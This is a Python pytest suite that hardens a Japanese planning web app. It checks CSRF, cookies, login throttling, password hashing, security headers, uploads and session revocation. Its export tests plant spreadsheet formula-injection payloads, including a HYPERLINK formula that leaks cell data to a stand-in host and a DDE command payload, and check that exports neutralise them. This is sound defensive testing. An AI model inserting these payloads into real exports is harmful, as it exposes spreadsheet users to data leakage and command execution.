"""HTTP hardening: CSRF on every state-changing route, cookie flags, login throttling, password hashing, security
headers and no inline script on every page, upload size limits, and no formula injection in any CSV/XLSX export.

The pages are found by walking the authorisation matrix's table (test_authorisation_matrix.ENDPOINTS), so new
routes and new exports are checked without touching this file.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from planner.db.models import Body, Need, User
from tests.security import test_authorisation_matrix as matrix
from tests.security.conftest import World, build_world, login, make_app
from tests.support.documents import fetch_zip

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
MARK = "evil.example"
PAYLOADS = [
    f'=HYPERLINK("http://{MARK}/?leak="&A1,"見る")',
    f"+cmd|' /C calc'!A0 {MARK}",
    f"-1+1 {MARK}",
    f"@SUM(1+1) {MARK}",
    f"\t=1+1 {MARK}",
    f"＝1+1 {MARK}",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _hostile(session: Session) -> None:
    """User-entered text that a spreadsheet would run: need notes, a body's name (official data can be edited)."""
    needs = session.exec(select(Need).order_by(Need.id)).all()
    for need, payload in zip(needs, PAYLOADS * 3, strict=False):
        need.notes = payload
        session.add(need)
    body = session.get(Body, "204820")
    body.name = f'=HYPERLINK("http://{MARK}/","小谷村")'
    session.add(body)
    user = session.exec(select(User).where(User.username == "pref20")).one()
    user.display_name = f"@{MARK} 担当"
    session.add(user)


@pytest.fixture(scope="module")
def world(request, tmp_path_factory) -> World:
    from tests.security.conftest import _module_database

    app = make_app(
        _module_database(request, tmp_path_factory),
        REPORT_CACHE_DIR=str(tmp_path_factory.mktemp("report-cache")),
        NEEDS_UPLOAD_DIR=str(tmp_path_factory.mktemp("uploads")),
    )
    world = build_world(
        app, names={"20": f'=HYPERLINK("http://{MARK}/","長野県計画")', "15": f"-新潟県 {MARK}"}, prepare=_hostile
    )
    app.extensions["security_world"] = world
    yield world
    app.extensions["db_engine"].dispose()


def crawl(app, user: str):
    """Every GET the user may make in the world (each object the user may see), as (url, response)."""
    client = app.test_client()
    if matrix.USERS[user]:
        login(client, user)
    for endpoint in sorted(matrix.ENDPOINTS):
        if endpoint not in app.view_functions:
            continue
        for method, rule, ext, target in matrix._cases(app, endpoint):
            if method != "GET" or (target is not None and user not in target.allowed):
                continue
            values = dict(target.values) if target else {}
            fmts = ("csv", "xlsx") if "fmt" in rule.arguments else (None,)
            for fmt in fmts:
                if fmt:
                    values["fmt"] = fmt
                url = matrix._url(app, endpoint, rule, values, ext)
                yield url, client.get(url)


# --- exports ------------------------------------------------------------------------------------------------------


def _xlsx_problems(where: str, data: bytes) -> list[str]:
    problems = []
    workbook = load_workbook(io.BytesIO(data))
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                if cell.data_type == "f" and (MARK in value or not matrix_formula(value)):
                    problems.append(f"{where} {ws.title}!{cell.coordinate}: user text became a formula: {value!r}")
                elif MARK in value and value.startswith(FORMULA_START) and not cell.quotePrefix:
                    problems.append(f"{where} {ws.title}!{cell.coordinate}: text starts like a formula: {value!r}")
    return problems


def matrix_formula(value: str) -> bool:
    """The formulas the reports build themselves: cell references, arithmetic, SUM/ROUND/IF."""
    from planner.domain.vocabulary import is_own_formula

    return is_own_formula(value)


def _csv_problems(where: str, data: bytes) -> list[str]:
    text = data.decode("utf-8-sig", errors="replace")
    problems = []
    for n, row in enumerate(csv.reader(io.StringIO(text)), start=1):
        for value in row:
            if MARK in value and value.startswith(FORMULA_START):
                problems.append(f"{where} row {n}: cell starts like a formula: {value!r}")
    return problems


def _export_problems(where: str, response) -> tuple[str | None, list[str]]:
    data = response.get_data()
    mimetype = response.mimetype
    if mimetype == "text/csv":
        return "csv", _csv_problems(where, data)
    if mimetype.endswith("spreadsheetml.sheet"):
        return "xlsx", _xlsx_problems(where, data)
    if mimetype == "application/zip":
        problems = []
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.endswith(".xlsx"):
                    problems += _xlsx_problems(f"{where}:{name}", archive.read(name))
                elif name.endswith(".csv"):
                    problems += _csv_problems(f"{where}:{name}", archive.read(name))
        return "zip", problems
    return None, []


@pytest.fixture(scope="module")
def crawled(world):
    """Each user's crawl, made once and kept (responses read) for the tests that look at it: the headers and inline
    script check and the exports' formula check both walk every page and document the administrator may get."""
    done: dict[str, list] = {}

    def responses(user: str) -> list:
        if user not in done:
            done[user] = []
            for url, response in crawl(world.app, user):
                response.get_data()  # read now: the response is looked at again after the crawl has moved on
                done[user].append((url, response))
        return done[user]

    return responses


# The administrator's crawl renders every document of the world: the two tests that read it share one worker.
ADMIN_CRAWL = pytest.mark.xdist_group("admin_crawl")


@ADMIN_CRAWL
def test_no_export_lets_user_text_run_as_a_formula(world, crawled):
    scanned, problems = [], []
    for url, response in crawled("admin"):
        kind, found = _export_problems(url, response)
        if kind:
            scanned.append(url)
            problems += found
    # The full ZIP is built in the background: the crawl sees its progress page, so fetch the built archive.
    admin = world.app.test_client()
    login(admin, "admin")
    for plan_id in world.plans.values():
        url = f"/plans/{plan_id}/reports.zip"
        kind, found = _export_problems(url, fetch_zip(admin, plan_id))
        if kind:
            scanned.append(url)
            problems += found
    assert not problems, "\n".join(problems)
    # The exports that exist today were all looked at (the walk finds new ones by itself).
    for pattern in (
        r"/needs/export\.csv",
        r"/needs/export\.xlsx",
        r"/bodies/export\.csv",
        r"/reports/summary\.xlsx",
        r"/reports/group/.+\.xlsx",
        r"/reports/member/.+\.xlsx",
        r"/reports\.zip",
    ):
        if any(re.search(pattern, url) for url in scanned) or not _route_exists(world.app, pattern):
            continue
        raise AssertionError(f"no export matching {pattern} was scanned: {scanned}")


def _route_exists(app, pattern: str) -> bool:
    return any(re.search(pattern.split("\\.")[0].replace(".+", ""), r.rule) for r in app.url_map.iter_rules())


def test_exports_really_contain_the_hostile_text(world):
    """Guard for the test above: the payloads do reach the exports (else it would pass for nothing)."""
    client = world.app.test_client()
    login(client, "admin")
    if "needs.export" in world.app.view_functions:
        text = client.get("/needs/export.csv?status=all").get_data(as_text=True)
        assert MARK in text
    data = client.get(f"/plans/{world.plans['20']}/reports/summary.xlsx").get_data()
    values = [c.value for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, str) and MARK in v for v in values)


# --- headers and inline script ------------------------------------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\ssrc=)[^>]*>", re.I)
EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.I)
STYLE_ATTRIBUTE = re.compile(r"<[^>]+\sstyle\s*=", re.I)
JS_URL = re.compile(r"(?:href|src|action)\s*=\s*[\"']?\s*javascript:", re.I)


def _header_problems(where: str, response) -> list[str]:
    h = response.headers
    out = []
    csp = h.get("Content-Security-Policy", "")
    directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";") if d.strip()}
    script = directives.get("script-src") or directives.get("default-src", "")
    if not script or "'unsafe-inline'" in script or "'unsafe-eval'" in script or "*" in script.split():
        out.append(f"{where}: CSP script-src {script!r}")
    if "frame-ancestors 'none'" not in csp and h.get("X-Frame-Options") != "DENY":
        out.append(f"{where}: framing not denied")
    if h.get("X-Content-Type-Options") != "nosniff":
        out.append(f"{where}: no X-Content-Type-Options: nosniff")
    if h.get("Referrer-Policy") not in (
        "same-origin",
        "no-referrer",
        "strict-origin",
        "strict-origin-when-cross-origin",
    ):
        out.append(f"{where}: Referrer-Policy {h.get('Referrer-Policy')!r}")
    return out


def _inline_problems(where: str, response) -> list[str]:
    if response.mimetype != "text/html":
        return []
    html = response.get_data(as_text=True)
    return [
        f"{where}: {what}: {m.group(0)[:80]!r}"
        for what, rx in (
            ("inline script", INLINE_SCRIPT),
            ("event handler attribute", EVENT_HANDLER),
            ("style attribute (blocked by style-src 'self')", STYLE_ATTRIBUTE),
            ("javascript: URL", JS_URL),
        )
        for m in [rx.search(html)]
        if m
    ]


@pytest.mark.parametrize("user", ["anonymous", pytest.param("admin", marks=ADMIN_CRAWL), "pref20", "muni202011"])
def test_every_response_has_the_security_headers_and_no_inline_script(crawled, user):
    problems, seen = [], 0
    for url, response in crawled(user):
        seen += 1
        where = f"{user} GET {url} ({response.status_code})"
        assert response.status_code < 500, where
        problems += _header_problems(where, response) + _inline_problems(where, response)
    assert seen > 3
    assert not problems, "\n".join(problems)


def test_error_responses_have_the_security_headers_too(world):
    client = world.app.test_client()
    checks = [("404", client.get("/no/such/page")), ("405", client.put("/login"))]
    login(client, "muni202011")
    checks.append(("403", client.get("/scenarios/")))
    checks.append(("api 404", client.get(f"/api/scenarios/{world.scenarios['15']}/status")))
    problems = []
    for label, response in checks:
        problems += _header_problems(label, response) + _inline_problems(label, response)
    assert [r.status_code for _, r in checks] == [404, 405, 403, 404]
    assert not problems, "\n".join(problems)


def test_templates_have_no_inline_script_or_handlers():
    problems = []
    for path in sorted(TEMPLATES.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        rel = path.relative_to(TEMPLATES)
        for what, rx in (
            ("inline <script>", INLINE_SCRIPT),
            ("event handler attribute", EVENT_HANDLER),
            ("javascript: URL", JS_URL),
        ):
            for m in rx.finditer(text):
                problems.append(f"{rel}:{text.count(chr(10), 0, m.start()) + 1}: {what}: {m.group(0)[:60]!r}")
        # The PDF templates are rendered by WeasyPrint, not a browser: only web pages must do without style="".
        if rel.parts[0] != "reports":
            for m in STYLE_ATTRIBUTE.finditer(text):
                problems.append(f"{rel}:{text.count(chr(10), 0, m.start()) + 1}: style attribute: {m.group(0)[:60]!r}")
    assert not problems, "\n".join(problems)


# --- CSRF ---------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def csrf_app(world):
    app = make_app(
        world.app.config["DATABASE_URL"], WTF_CSRF_ENABLED=True, NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"]
    )
    app.extensions["security_world"] = world
    yield app
    app.extensions["db_engine"].dispose()


def _token(client, path: str = "/login") -> str:
    from tests.support.web import csrf_token_from

    return csrf_token_from(client.get(path).get_data(as_text=True))


def _csrf_login(client, username: str) -> None:
    token = _token(client)
    response = client.post("/login", data={"username": username, "password": "password-123", "csrf_token": token})
    assert response.status_code == 302, response.status_code


def test_login_itself_needs_the_token(csrf_app):
    client = csrf_app.test_client()
    response = client.post("/login", data={"username": "admin", "password": "password-123"})
    assert response.status_code == 400
    assert "フォームの有効期限が切れました" in response.get_data(as_text=True)


def test_every_state_changing_route_refuses_a_request_without_a_valid_token(csrf_app, world):
    client = csrf_app.test_client()
    _csrf_login(client, "admin")  # may do everything: only the token stands in the way
    before = matrix._state(world)
    tried, problems = [], []
    for endpoint in sorted(matrix.ENDPOINTS):
        if endpoint not in csrf_app.view_functions:
            continue
        for method, rule, ext, target in matrix._cases(csrf_app, endpoint):
            if method not in matrix.STATE_CHANGING or endpoint == "auth.login":
                continue
            url = matrix._url(csrf_app, endpoint, rule, target.values if target else {}, ext)
            for label, data in (("no token", {}), ("forged token", {"csrf_token": "forged." + "x" * 40})):
                response = client.open(url, method=method, data=data)
                tried.append(url)
                if response.status_code != 400:
                    problems.append(f"{method} {url} with {label}: {response.status_code}, expected 400")
    assert tried, "no state-changing route found"
    assert not problems, "\n".join(problems)
    assert matrix._state(world) == before, "a request without a valid token changed the database"
    # and the session is still signed in: the refusals did not log anyone out or in
    assert client.get("/home").status_code == 200


def test_a_valid_token_is_accepted(csrf_app):
    client = csrf_app.test_client()
    _csrf_login(client, "muni202011")
    token = _token(client, "/home")
    assert client.post("/logout", data={"csrf_token": token}).status_code == 302
    assert client.get("/home").status_code == 302  # signed out


# --- cookies, proxies -----------------------------------------------------------------------------------------------


def _session_cookie(response) -> str:
    cookies = [v for v in response.headers.getlist("Set-Cookie") if v.startswith("session=")]
    assert cookies, "no session cookie set"
    return cookies[-1]


def test_session_cookie_is_httponly_and_samesite_lax(world):
    response = world.app.test_client().post("/login", data={"username": "admin", "password": "password-123"})
    cookie = _session_cookie(response)
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # plain HTTP on loopback (development): a Secure cookie would never come back


def test_session_cookie_is_secure_when_configured_or_served_over_https(world, monkeypatch):
    url = world.app.config["DATABASE_URL"]
    configured = make_app(url, SESSION_COOKIE_SECURE=True)
    response = configured.test_client().post("/login", data={"username": "admin", "password": "password-123"})
    assert "Secure" in _session_cookie(response)
    assert response.headers.get("Strict-Transport-Security")

    direct = make_app(url)  # TLS terminated by the WSGI server itself
    response = direct.test_client().post(
        "/login", base_url="https://planner.example", data={"username": "admin", "password": "password-123"}
    )
    assert "Secure" in _session_cookie(response)

    proxied = make_app(url, TRUSTED_PROXY=True)  # behind an HTTPS reverse proxy
    response = proxied.test_client().post(
        "/login",
        headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"},
        data={"username": "admin", "password": "password-123"},
    )
    assert "Secure" in _session_cookie(response)
    for app in (configured, direct, proxied):
        app.extensions["db_engine"].dispose()


# --- login throttle, password hashing ------------------------------------------------------------------------------


def _fail(client, username: str, **kw):
    return client.post("/login", data={"username": username, "password": "wrong-password"}, **kw)


def test_login_is_throttled_per_name_and_address(world):
    from planner.services.login_throttle import MAX_FAILURES

    client = world.app.test_client()
    here = {"REMOTE_ADDR": "198.51.100.7"}
    for _ in range(MAX_FAILURES):
        assert _fail(client, "muni202029", environ_base=here).status_code == 200
    blocked = client.post("/login", data={"username": "muni202029", "password": "password-123"}, environ_base=here)
    assert blocked.status_code == 429  # even the right password, once blocked
    assert "しばらく" in blocked.get_data(as_text=True)
    other = client.post(
        "/login",
        data={"username": "muni202029", "password": "password-123"},
        environ_base={"REMOTE_ADDR": "198.51.100.8"},
    )
    assert other.status_code == 302  # another office is not locked out by someone else's typing
    with Session(world.engine) as session:
        from planner.db.models import AuditLog

        actions = [a.action for a in session.exec(select(AuditLog).where(AuditLog.entity_id == "muni202029"))]
    assert actions.count("login_failed") >= MAX_FAILURES and "login_blocked" in actions


def test_a_forged_forwarded_for_header_does_not_reset_the_throttle(world):
    """Behind the proxy the address comes from X-Forwarded-For; the client's own part of it must not count."""
    from planner.services.login_throttle import MAX_FAILURES

    app = make_app(world.app.config["DATABASE_URL"], TRUSTED_PROXY=True)
    client = app.test_client()
    proxy = {"REMOTE_ADDR": "10.0.0.2"}
    for i in range(MAX_FAILURES + 2):
        # The attacker invents a new address each time; the proxy appends the real one (192.0.2.50).
        _fail(client, "pref15", environ_base=proxy, headers={"X-Forwarded-For": f"203.0.113.{i}, 192.0.2.50"})
    response = client.post(
        "/login",
        data={"username": "pref15", "password": "password-123"},
        environ_base=proxy,
        headers={"X-Forwarded-For": "203.0.113.200, 192.0.2.50"},
    )
    assert response.status_code == 429
    app.extensions["db_engine"].dispose()


def test_passwords_are_hashed_with_argon2id_memory_hard_parameters(world):
    with Session(world.engine) as session:
        hashes = [u.password_hash for u in session.exec(select(User))]
    assert hashes
    for h in hashes:
        m = re.match(r"\$argon2id\$v=19\$m=(\d+),t=(\d+),p=(\d+)\$", h)
        assert m, h[:30]
        memory_kib, time_cost, _ = map(int, m.groups())
        assert memory_kib >= 19 * 1024 and time_cost >= 2  # OWASP's minimum for argon2id
    assert "password-123" not in "".join(hashes)


# --- uploads --------------------------------------------------------------------------------------------------------


def test_the_default_upload_limit_is_set():
    from planner.app import create_app

    app = create_app({"TESTING": True, "DATABASE_URL": "sqlite://", "SECRET_KEY": "x"})
    assert 0 < app.config["MAX_CONTENT_LENGTH"] <= 10 * 1024 * 1024


@pytest.mark.parametrize("path", ["/needs/import", "/bodies/import"])
def test_an_oversized_upload_gets_413_with_a_japanese_page(world, path):
    app = make_app(
        world.app.config["DATABASE_URL"], MAX_CONTENT_LENGTH=4096, NEEDS_UPLOAD_DIR=world.app.config["NEEDS_UPLOAD_DIR"]
    )
    client = app.test_client()
    login(client, "admin")
    before = matrix._state(world)
    big = io.BytesIO(b"body_code,category\n" + b"202011,ocr\n" * 2000)
    response = client.post(path, data={"file": (big, "needs.csv")}, content_type="multipart/form-data")
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert "ファイルが大きすぎます" in html and 'lang="ja"' in html
    assert matrix._state(world) == before
    app.extensions["db_engine"].dispose()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
ZIP_NOT_XLSX = b"PK\x03\x04" + b"\x00" * 60 + b"not really a workbook"
UPLOADS = {"/needs/import": "file", "/bodies/import": "file", "/admin/data": "files"}


def _shown_problem(html: str) -> str:
    """The text of the page's error box or of the file field's errors ('' when there is none)."""
    shown = re.search(
        r'<div class="error-summary".*?</(?:table|ul)>|<ul class="errors" id="files?-errors">.*?</ul>', html, re.S
    )
    return re.sub(r"<[^>]+>", " ", shown.group(0)) if shown else ""


@pytest.mark.parametrize("path", list(UPLOADS))
@pytest.mark.parametrize(
    "name,data,expected",
    [
        ("picture.csv", PNG, "PNG 画像"),
        ("picture.xlsx", PNG, "PNG 画像"),
        ("report.csv", b"%PDF-1.4\n%...", "PDF"),
        ("needs.xlsx", ZIP_NOT_XLSX, "Excel（.xlsx）"),
        ("run.exe", PNG, ".xlsx"),
        ("blob.csv", bytes(range(256)) * 8, "CSV（.csv）でも Excel（.xlsx）でもない"),
    ],
)
def test_a_file_of_the_wrong_type_is_refused_with_422_and_the_reason(world, path, name, data, expected):
    if path == "/admin/data" and name.endswith(".csv"):
        name = name[:-4] + ".xlsx"  # the official upload takes .xlsx names only; the content is what is tested
    client = world.app.test_client()
    login(client, "admin")
    before = matrix._state(world)
    response = client.post(path, data={UPLOADS[path]: (io.BytesIO(data), name)}, content_type="multipart/form-data")
    assert response.status_code == 422
    shown = _shown_problem(response.get_data(as_text=True))
    assert expected in shown, shown or response.get_data(as_text=True)[:800]
    assert "文字コード" not in shown  # a picture is the wrong kind of file, not a text in the wrong encoding
    assert matrix._state(world) == before


@pytest.mark.parametrize("path", list(UPLOADS))
def test_an_upload_without_a_file_is_422(world, path):
    client = world.app.test_client()
    login(client, "admin")
    assert client.get(path).status_code == 200
    assert client.post(path, data={}, content_type="multipart/form-data").status_code == 422


def test_a_flags_file_with_bad_rows_is_422_and_a_good_one_200(world):
    client = world.app.test_client()
    login(client, "admin")
    bad = client.post(
        "/bodies/import",
        data={"file": (io.BytesIO(b"code,disadvantaged\n999999,1\n"), "flags.csv")},
        content_type="multipart/form-data",
    )
    assert bad.status_code == 422 and "999999" in _shown_problem(bad.get_data(as_text=True))
    good = client.post(
        "/bodies/import",
        data={"file": (io.BytesIO(b"code,disadvantaged\n202011,0\n"), "flags.csv")},
        content_type="multipart/form-data",
    )
    assert good.status_code == 200 and not _shown_problem(good.get_data(as_text=True))


def test_a_real_encoding_problem_is_still_reported_as_one(world):
    client = world.app.test_client()
    login(client, "admin")
    utf16 = "code,disadvantaged\n202011,1\n".encode("utf-16")
    response = client.post(
        "/bodies/import", data={"file": (io.BytesIO(utf16), "flags.csv")}, content_type="multipart/form-data"
    )
    assert response.status_code == 422 and "UTF-16" in _shown_problem(response.get_data(as_text=True))


# --- sessions end at logout, password reset and deactivation --------------------------------------------------------


def _scratch_user(world, role: str = "municipality") -> tuple[str, int]:
    """A user of this test alone: ending its sessions cannot sign out the clients other tests keep."""
    import uuid

    from planner.services.users import create_user

    name = f"scratch-{uuid.uuid4().hex[:8]}"
    with Session(world.engine) as session:
        user = create_user(session, name, "password-123", role, body_code="202011" if role == "municipality" else None)
        session.commit()
        return name, user.id


def _cookie(client) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None, "no session cookie"
    return cookie.value


def _replay(app, cookie: str):
    """A request from somebody else's browser carrying a copy of the cookie."""
    thief = app.test_client()
    thief.set_cookie("session", cookie)
    return thief.get("/home")


def _refused(response) -> bool:
    return response.status_code == 302 and "/login" in response.headers["Location"]


def test_a_session_cookie_copied_before_logout_is_refused_after_it(world):
    name, _ = _scratch_user(world)
    client, other_browser = world.app.test_client(), world.app.test_client()
    login(client, name)
    login(other_browser, name)
    copied = _cookie(client)
    assert _replay(world.app, copied).status_code == 200  # the copy works while the session lives
    assert client.post("/logout").status_code == 302
    assert _refused(_replay(world.app, copied))
    assert _refused(other_browser.get("/home"))  # logging out ends the account's other sessions too
    login(client, name)
    assert client.get("/home").status_code == 200  # and signing in again works


def test_a_password_reset_by_an_administrator_ends_the_users_sessions(world):
    name, user_id = _scratch_user(world)
    victim = world.app.test_client()
    login(victim, name)
    copied = _cookie(victim)
    admin = world.app.test_client()
    login(admin, "admin")
    response = admin.post(f"/admin/users/{user_id}/password", data={"password": "another-pass-456"})
    assert response.status_code == 200
    assert _refused(_replay(world.app, copied)) and _refused(victim.get("/home"))
    assert admin.get("/home").status_code == 200  # the administrator's own session is not touched
    login(victim, name, "another-pass-456")
    assert victim.get("/home").status_code == 200


def test_an_administrator_resetting_their_own_password_stays_signed_in_on_a_new_session(world):
    name, user_id = _scratch_user(world, "admin")
    admin = world.app.test_client()
    login(admin, name)
    copied = _cookie(admin)
    assert admin.post(f"/admin/users/{user_id}/password", data={"password": "another-pass-456"}).status_code == 200
    assert admin.get("/home").status_code == 200
    assert _refused(_replay(world.app, copied))


def test_deactivation_ends_the_users_sessions_and_reactivation_does_not_revive_them(world):
    name, user_id = _scratch_user(world)
    victim = world.app.test_client()
    login(victim, name)
    copied = _cookie(victim)
    admin = world.app.test_client()
    login(admin, "admin")
    assert admin.post(f"/admin/users/{user_id}/active", data={"active": "0"}).status_code == 302
    assert _refused(_replay(world.app, copied))
    assert admin.post(f"/admin/users/{user_id}/active", data={"active": "1"}).status_code == 302
    assert _refused(_replay(world.app, copied)) and _refused(victim.get("/home"))


def test_a_password_change_outside_the_web_ends_sessions_too(world):
    from planner.services.users import set_password

    name, user_id = _scratch_user(world)
    client = world.app.test_client()
    login(client, name)
    with Session(world.engine) as session:
        set_password(session, session.get(User, user_id), "changed-by-cli-789")
        session.commit()
    assert _refused(client.get("/home"))


def test_a_forged_or_old_style_identity_is_refused(world):
    """A cookie made before session generations (identity without one) or naming another generation is worthless,
    even signed with the right key."""
    name, user_id = _scratch_user(world)
    client = world.app.test_client()
    login(client, name)
    with Session(world.engine) as session:
        generation = session.get(User, user_id).session_generation
    for identity in (str(user_id), f"{user_id}:{generation + 1}", f"{user_id}:x", f"{user_id}:{generation}:0"):
        with client.session_transaction() as cookie:
            cookie["_user_id"] = identity
        assert _refused(client.get("/home")), identity


def test_the_session_cookie_is_permanent_with_the_configured_idle_limit(world):
    response = world.app.test_client().post("/login", data={"username": "admin", "password": "password-123"})
    assert "Expires=" in _session_cookie(response)
    assert world.app.permanent_session_lifetime.total_seconds() == 8 * 3600  # one working day by default
    assert world.app.config["SESSION_MAX_HOURS"] == 12


def test_an_idle_session_expires_and_a_busy_one_ends_at_the_cap(world, monkeypatch):
    import time as clock

    app = make_app(world.app.config["DATABASE_URL"], SESSION_IDLE_HOURS=1, SESSION_MAX_HOURS=3)
    now = clock.time()
    name, _ = _scratch_user(world)

    def at(hours: float) -> None:
        monkeypatch.setattr(clock, "time", lambda: now + hours * 3600)

    idle = app.test_client()
    at(0)
    login(idle, name)
    at(0.5)
    assert idle.get("/home").status_code == 200
    at(1.75)  # 1¼ hours after the last request
    assert _refused(idle.get("/home"))

    busy = app.test_client()
    at(0)
    login(busy, name)
    for hours in (0.9, 1.8, 2.7):  # a request every 54 minutes keeps the idle limit at bay ...
        at(hours)
        assert busy.get("/home").status_code == 200, hours
    at(3.1)  # ... but not past the cap
    assert _refused(busy.get("/home"))
    app.extensions["db_engine"].dispose()


# --- login throttle across names and across addresses ---------------------------------------------------------------


def _blocked_message(response) -> str:
    return re.sub(
        r"<[^>]+>",
        "",
        re.search(r'class="flash flash-error"[^>]*>(.*?)</', response.get_data(as_text=True), re.S).group(1),
    ).strip()


def _audit(world, action: str, entity_id: str):
    from planner.db.models import AuditLog

    with Session(world.engine) as session:
        return list(session.exec(select(AuditLog).where(AuditLog.action == action, AuditLog.entity_id == entity_id)))


def test_password_spraying_from_one_address_is_throttled_across_user_names(world):
    app = make_app(world.app.config["DATABASE_URL"], LOGIN_MAX_FAILURES_PER_ADDRESS=4)
    name, _ = _scratch_user(world)
    client = app.test_client()
    sprayer = {"REMOTE_ADDR": "192.0.2.101"}
    for i in range(4):  # one guess per account: the per-name limit never triggers
        assert _fail(client, f"sprayed-{i}", environ_base=sprayer).status_code == 200
    blocked = client.post("/login", data={"username": name, "password": "password-123"}, environ_base=sprayer)
    assert blocked.status_code == 429 and "しばらく" in _blocked_message(blocked)
    entries = _audit(world, "login_blocked", name)
    assert entries and "ip=192.0.2.101" in entries[-1].detail and "制限=address" in entries[-1].detail
    elsewhere = client.post(
        "/login", data={"username": name, "password": "password-123"}, environ_base={"REMOTE_ADDR": "192.0.2.102"}
    )
    assert elsewhere.status_code == 302  # the account itself is not locked
    app.extensions["db_engine"].dispose()


def test_distributed_guessing_of_one_account_is_throttled_across_addresses(world):
    app = make_app(world.app.config["DATABASE_URL"], LOGIN_MAX_FAILURES_PER_ACCOUNT=4)
    name, _ = _scratch_user(world)
    client = app.test_client()
    for i in range(4):  # one guess per address: the per-address limits never trigger
        assert _fail(client, name, environ_base={"REMOTE_ADDR": f"203.0.113.{150 + i}"}).status_code == 200
    blocked = client.post(
        "/login", data={"username": name, "password": "password-123"}, environ_base={"REMOTE_ADDR": "203.0.113.160"}
    )
    assert blocked.status_code == 429
    assert "制限=account" in _audit(world, "login_blocked", name)[-1].detail
    other = client.post(
        "/login", data={"username": "pref20", "password": "password-123"}, environ_base={"REMOTE_ADDR": "203.0.113.150"}
    )
    assert other.status_code == 302  # the guessers' addresses still reach other accounts
    app.extensions["db_engine"].dispose()


def test_the_blocked_message_is_the_same_whichever_limit_refused(world):
    from planner.services.login_throttle import MAX_FAILURES

    app = make_app(
        world.app.config["DATABASE_URL"],
        LOGIN_MAX_FAILURES_PER_ADDRESS=MAX_FAILURES + 1,
        LOGIN_MAX_FAILURES_PER_ACCOUNT=MAX_FAILURES,
    )
    client = app.test_client()
    by_name, _ = _scratch_user(world)
    here = {"REMOTE_ADDR": "192.0.2.120"}
    for _ in range(MAX_FAILURES):
        _fail(client, by_name, environ_base=here)
    messages = {_blocked_message(_fail(client, by_name, environ_base=here))}  # per name and address
    _fail(client, "nobody-at-all", environ_base=here)
    messages.add(_blocked_message(_fail(client, "someone-else", environ_base=here)))  # per address
    messages.add(_blocked_message(_fail(client, by_name, environ_base={"REMOTE_ADDR": "192.0.2.121"})))  # account
    reasons = {e.detail.split("制限=")[1].split("（")[0] for e in _audit(world, "login_blocked", by_name)}
    reasons |= {e.detail.split("制限=")[1].split("（")[0] for e in _audit(world, "login_blocked", "someone-else")}
    assert reasons == {"name_and_address", "address", "account"}
    assert len(messages) == 1 and "しばらく" in messages.pop()
    app.extensions["db_engine"].dispose()


def test_failures_older_than_the_window_do_not_count(world):
    from datetime import timedelta

    from planner.db.models import AuditLog, utcnow
    from planner.services.login_throttle import Limits, block_reason, failure_detail

    limits = Limits(per_name_and_address=3, per_address=3, per_account=3, window=timedelta(minutes=15))
    with Session(world.engine) as session:
        for i in range(5):
            session.add(
                AuditLog(
                    action="login_failed",
                    entity="user",
                    entity_id="old-guesses",
                    detail=failure_detail("192.0.2.130"),
                    at=utcnow() - timedelta(minutes=16 + i),
                )
            )
        session.flush()
        assert block_reason(session, "old-guesses", "192.0.2.130", limits) is None
        session.add(
            AuditLog(
                action="login_failed",
                entity="user",
                entity_id="old-guesses",
                detail=failure_detail("192.0.2.131"),
                at=utcnow(),
            )
        )
        session.flush()
        assert block_reason(session, "old-guesses", "192.0.2.132", limits) is None
        session.rollback()


def test_throttle_defaults_are_ordered_and_configurable():
    from datetime import timedelta

    from planner.services.login_throttle import Limits

    defaults = Limits.from_config({})
    assert defaults == Limits()
    # A person mistypes a few times; spraying and distributed guessing need more room before they lock others out.
    assert 0 < defaults.per_name_and_address < defaults.per_address <= defaults.per_account
    custom = Limits.from_config(
        {"LOGIN_MAX_FAILURES": 3, "LOGIN_MAX_FAILURES_PER_ADDRESS": 0, "LOGIN_THROTTLE_MINUTES": 30}
    )
    assert (custom.per_name_and_address, custom.per_address, custom.window) == (3, 0, timedelta(minutes=30))
